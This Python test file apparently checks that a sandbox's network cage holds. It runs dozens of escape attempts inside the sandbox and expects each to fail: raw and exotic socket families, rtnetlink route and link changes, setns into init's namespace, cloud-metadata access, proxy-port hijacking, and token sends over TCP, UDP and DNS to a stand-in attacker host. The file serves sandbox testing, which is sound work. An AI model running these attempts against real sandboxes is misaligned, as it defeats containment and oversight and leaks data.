"""Sockets inside of a sandbox as it is, built by the engine with all of its
cage, its listener handed to the proxy: no kind of socket, and nothing that can
be done to one, leads past the proxy."""
import os
import socket

from technique import Got, T, TOKEN, get
from world import EVIL, EVIL6, GOOD, HOST, HOST6

# --- what runs in it --------------------------------------------------------------

PRELUDE = r"""
import ctypes, errno, fcntl, os, socket, stat, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
tok = bytes.fromhex(sys.argv[1])

def call(nr, *a):
    ctypes.set_errno(0)
    r = libc.syscall(nr, *[ctypes.c_long(x) if isinstance(x, int) else x
                           for x in a])
    if r < 0:
        raise OSError(ctypes.get_errno(), "")
    return r

def udp(a, port, data=tok, family=socket.AF_INET, flags=0):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.connect((a, port))
    s.send(data, flags)
    s.recv(1)

def tcp(a, port, family=socket.AF_INET, proto=0):
    s = socket.socket(family, socket.SOCK_STREAM, proto)
    s.settimeout(2)
    s.connect((a, port))
    s.sendall(tok)

def option(level, name, value, kind=socket.SOCK_STREAM):
    socket.socket(socket.AF_INET, kind).setsockopt(level, name, value)

def ask_route(kind, body, flags=0x405):
    # one request of rtnetlink; its error
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    s.send(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body)
    error = struct.unpack_from("=i", s.recv(4096), 16)[0]
    if error < 0:
        raise OSError(-error, "")

def interface(number, data):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    fcntl.ioctl(s, number, data)

def name_query(name):
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(
        bytes([len(x)]) + x for x in name.split(b".")) + b"\0\0\1\0\1"

try:
    exec(sys.argv[2])
    print("OPEN")
except OSError as e:
    print(errno.errorcode.get(e.errno, str(e)))
"""


class Sockets:
    """Of the test's own, where no sandbox may get."""

    def __init__(self):
        self.abstract = socket.socket(socket.AF_UNIX)
        self.name = "sbx-gauntlet-%d" % os.getpid()
        self.abstract.bind("\0" + self.name)
        self.abstract.listen()


OUTSIDE = []


def inside(code):
    """Run it there; what it prints."""
    def f(run):
        if not OUTSIDE:
            OUTSIDE.append(Sockets())
        return run.target.inside(PRELUDE, run.token.hex(), code.replace(
            "ABSTRACT", repr("\0" + OUTSIDE[0].name)))
    return f


def through(run):
    """The way there is: a request by the proxy, from inside."""
    got = Got()
    got.raw = bytes.fromhex(run.target.inside(r"""
import socket, sys
s = socket.create_connection(("127.0.0.1", 3128), 10)
s.sendall(bytes.fromhex(sys.argv[1]))
out = b""
while b"\r\n\r\n" not in out:
    out += s.recv(65536)
print(out.hex())
""", run.fill(get("plain.test")).hex()))
    return got.parse()


# --- techniques -------------------------------------------------------------------

NOWAY = {"ENETUNREACH", "EHOSTUNREACH", "EADDRNOTAVAIL"}
NOKIND = {"EPERM", "EACCES", "EAFNOSUPPORT", "EPROTONOSUPPORT",
          "ESOCKTNOSUPPORT"}
MAY_NOT = {"EPERM", "EACCES"}


def add(name, code, want):
    T("inside", name, inside(code), frozenset(want), control="inside",
      only="sbx")


for name, family, kind, proto in [
        ("AF_PACKET, raw", 17, 3, 0x0300), ("AF_PACKET, cooked", 17, 2, 0x0300),
        ("raw ICMP", 2, 3, 1), ("raw IPv4 with headers of its own", 2, 3, 255),
        ("raw TCP", 2, 3, 6), ("raw IPv6", 10, 3, 58),
        ("a ping socket", 2, 2, 1), ("a ping socket of IPv6", 10, 2, 58),
        ("AF_VSOCK, stream", 40, 1, 0), ("AF_VSOCK, datagrams", 40, 2, 0),
        ("AF_XDP", 44, 3, 0), ("AF_ALG", 38, 5, 0), ("AF_KEY", 15, 3, 2),
        ("AF_TIPC", 30, 2, 0), ("AF_CAN", 29, 3, 1),
        ("AF_BLUETOOTH", 31, 5, 0), ("AF_PPPOX", 24, 1, 0),
        ("AF_RDS", 21, 5, 0), ("AF_SMC", 43, 1, 0), ("AF_KCM", 41, 2, 0),
        ("AF_QIPCRTR", 42, 2, 0), ("AF_NFC", 39, 5, 0), ("AF_IB", 27, 1, 0),
        ("AF_LLC", 26, 1, 0), ("AF_MCTP", 45, 2, 0), ("AF_X25", 9, 5, 0),
        ("AF_APPLETALK", 5, 2, 0), ("AF_IEEE802154", 36, 2, 0),
        ("netlink: generic", 16, 3, 16), ("netlink: netfilter", 16, 3, 12),
        ("netlink: sock_diag", 16, 3, 4), ("netlink: xfrm", 16, 3, 6),
        ("netlink: audit", 16, 3, 9), ("netlink: connector", 16, 3, 11),
        ("netlink: uevents", 16, 3, 15), ("netlink: crypto", 16, 3, 21),
        ("netlink: rdma", 16, 3, 20)]:
    add(name, "socket.socket(%d, %d, %d)" % (family, kind, proto), NOKIND)

LINK = "struct.pack('=BBHiII', 0, 0, 0, %d, %d, %d)"
for name, kind, body in [
        ("make a device", 16, LINK % (0, 0, 0) +
         "+ struct.pack('=HH4s', 8, 3, b'out\\0') + "
         "struct.pack('=HHHH6s2x', 16, 18, 10, 1, b'dummy\\0')"),
        ("lo down", 16, LINK % (1, 0, 1)),
        ("delete lo", 17, LINK % (1, 0, 0)),
        ("move lo to another namespace", 16, LINK % (1, 0, 0) +
         "+ struct.pack('=HHi', 8, 19, 1)"),
        ("an address for lo", 20, "struct.pack('=BBBBI', 2, 24, 0, 0, 1) + "
         "struct.pack('=HH', 8, 2) + socket.inet_aton('%s')" % HOST),
        ("a route to everywhere", 24, "struct.pack('=BBBBBBBBI', 2, 0, 0, 0, "
         "254, 3, 253, 1, 0) + struct.pack('=HHi', 8, 4, 1)"),
        ("a neighbour", 28, "struct.pack('=BBHiHBB', 2, 0, 0, 1, 2, 0, 0)"),
        ("a rule", 32, "struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 0, 0, 1, "
         "0)")]:
    add("rtnetlink: " + name, "ask_route(%d, %s)" % (kind, body), MAY_NOT)

for name, code in [
        ("TCP to the attacker", "tcp('%s', 443)" % EVIL),
        ("TCP to a listed host's address", "tcp('%s', 443)" % GOOD),
        ("TCP to the host's address", "tcp('%s', 443)" % HOST),
        ("TCP to the host's IPv6 address", "tcp('%s', 443, "
         "socket.AF_INET6)" % HOST6),
        ("TCP to the attacker's IPv6 address", "tcp('%s', 443, "
         "socket.AF_INET6)" % EVIL6),
        ("TCP to the host's address, mapped", "tcp('::ffff:%s', 443, "
         "socket.AF_INET6)" % HOST),
        ("TCP to the metadata address", "tcp('169.254.169.254', 80)"),
        ("UDP to the attacker", "udp('%s', 53)" % EVIL),
        ("UDP to a resolver on the host", "udp('%s', 53, name_query("
         "b'c2vjcmv0.evil.test'))" % HOST),
        ("UDP to a resolver elsewhere", "udp('8.8.8.8', 53, name_query("
         "b'c2vjcmv0.evil.test'))"),
        ("IPv6 UDP to a resolver", "udp('%s', 53, name_query(b'c2vjcmv0.evil."
         "test'), socket.AF_INET6)" % HOST6),
        ("UDP to everybody on the link", "s = socket.socket(2, 2); "
         "s.setsockopt(1, 6, 1); s.sendto(tok, ('255.255.255.255', 67))"),
        ("UDP to a group", "socket.socket(2, 2).sendto(tok, "
         "('224.0.0.251', 5353))"),
        ("sendto() with TCP Fast Open", "socket.socket(2, 1).sendto(tok, "
         "0x20000000, ('%s', 443))" % EVIL),
        ("sendto() with MSG_DONTROUTE", "socket.socket(2, 2).sendto(tok, "
         "0x4, ('%s', 443))" % EVIL),
        ("sendto() with MSG_CONFIRM", "socket.socket(2, 2).sendto(tok, "
         "0x800, ('%s', 443))" % EVIL),
        ("sendto() from the host's address", "s = socket.socket(2, 2); "
         "s.setsockopt(0, 15, 1); s.bind(('%s', 0)); "
         "s.sendto(tok, ('%s', 443))" % (HOST, EVIL))]:
    add(name, code, NOWAY | {"ENONET", "EINVAL"})
# it is sent, on lo: nobody there hears it, and nobody elsewhere
add("sendmsg() by the interface lo", "socket.socket(2, 2).sendmsg([tok], "
    "[(0, 8, struct.pack('=I4s4s', 1, b'', b''))], 0, ('%s', 53))" % EVIL,
    NOWAY | {"OPEN"})
for name, proto in (("MPTCP", 262), ("SCTP", 132)):
    add(name + " to the attacker", "tcp('%s', 443, proto=%d)" % (EVIL, proto),
        NOWAY | NOKIND)
for name, kind, proto in (("UDP-Lite", 2, 136), ("DCCP", 6, 33)):
    add(name + " to the attacker", "s = socket.socket(2, %d, %d); "
        "s.connect(('%s', 443)); s.send(tok)" % (kind, proto, EVIL),
        NOWAY | NOKIND)

for name, code in [
        ("a resolver on its own loopback", "udp('127.0.0.1', 53, name_query("
         "b'c2vjcmv0.evil.test'))"),
        ("what listens on the host's loopback", "tcp('127.0.0.1', 443)"),
        ("the address 0.0.0.0", "tcp('0.0.0.0', 443)"),
        ("the proxy's port at 127.0.0.2", "tcp('127.0.0.2', 3128)"),
        ("the proxy's port by UDP", "udp('127.0.0.1', 3128)"),
        ("an abstract socket of the host", "socket.socket(1).connect("
         "ABSTRACT)"),
        ("the same by datagrams", "socket.socket(1, 2).sendto(tok, "
         "ABSTRACT)")]:
    add(name, code, {"ECONNREFUSED", "EPERM"})
for name, code in [
        ("the proxy's port, taken", "s = socket.socket(); s.setsockopt(1, 2, "
         "1); s.bind(('127.0.0.1', 3128)); s.listen()"),
        ("the proxy's port, shared", "s = socket.socket(); s.setsockopt(1, 15"
         ", 1); s.bind(('127.0.0.1', 3128)); s.listen()"),
        ("the proxy's port at all addresses", "s = socket.socket(); "
         "s.setsockopt(1, 2, 1); s.setsockopt(1, 15, 1); "
         "s.bind(('0.0.0.0', 3128)); s.listen()"),
        ("the proxy's port by IPv6", "s = socket.socket(10, 1); "
         "s.setsockopt(41, 26, 0); s.bind(('::', 3128)); s.listen()")]:
    add(name, code, {"EADDRINUSE"})

for name, code in [
        ("SO_MARK", "option(1, 36, 1)"), ("IP_TRANSPARENT", "option(0, 19, "
         "1)"), ("SO_BINDTODEVICE to another device", "option(1, 25, b'eth0')"),
        ("SO_DEBUG", "option(1, 1, 1)"), ("SO_RCVBUFFORCE", "option(1, 33, "
         "1 << 20)"), ("TCP_REPAIR", "option(6, 19, 1)"),
        ("iptables", "option(0, 64, bytes(96))"),
        ("SIOCSIFADDR", "interface(0x8916, struct.pack('16sHH4s8x', b'lo', 2, "
         "0, bytes(4)))"),
        ("SIOCSIFFLAGS", "interface(0x8914, struct.pack('16sH14x', b'lo', "
         "0))"), ("SIOCADDRT", "interface(0x890b, bytes(120))"),
        ("SIOCBRADDBR", "interface(0x89a0, b'br0' + bytes(13))"),
        ("SIOCGSKNS of its own socket", "interface(0x894c, 0)"),
        ("io_uring", "b = ctypes.create_string_buffer(120); call(425, 1, b)"),
        ("bpf", "b = ctypes.create_string_buffer(120); call(321, 5, b, 120)"),
        ("setns to init's network", "call(308, os.open('/proc/1/ns/net', 0), "
         "0x40000000)"),
        ("setns to its own network", "call(308, os.open('/proc/self/ns/net', "
         "0), 0x40000000)"),
        ("setns by init's pidfd", "call(308, os.pidfd_open(1), 0x40000000)"),
        ("a network namespace of its own", "call(272, 0x40000000)"),
        ("init's descriptors", "os.listdir('/proc/1/fd')"),
        ("a descriptor of init's by its pidfd", "call(438, os.pidfd_open(1), "
         "3, 0)"),
        ("tun", "os.open('/dev/net/tun', os.O_RDWR)"),
        ("vhost-vsock", "os.open('/dev/vhost-vsock', os.O_RDWR)"),
        ("its network's sysctls", "open('/proc/sys/net/ipv4/ip_forward', "
         "'w').write('1')")]:
    add(name, code, MAY_NOT | {"ENOSYS", "ENODEV", "ENOENT", "EROFS",
                               "ENOPROTOOPT", "EOPNOTSUPP"})
add("SIOCGSKNS of what it inherits", """
found = [n for n in os.listdir('/proc/self/fd')
         if os.path.exists('/proc/self/fd/' + n) and
         stat.S_ISSOCK(os.stat('/proc/self/fd/' + n).st_mode)]
for n in found:
    fcntl.ioctl(int(n), 0x894c, 0)
if not found:
    raise OSError(errno.ENOTSOCK, '')
""", MAY_NOT | {"ENOTSOCK"})
assert TOKEN    # in all of them as tok
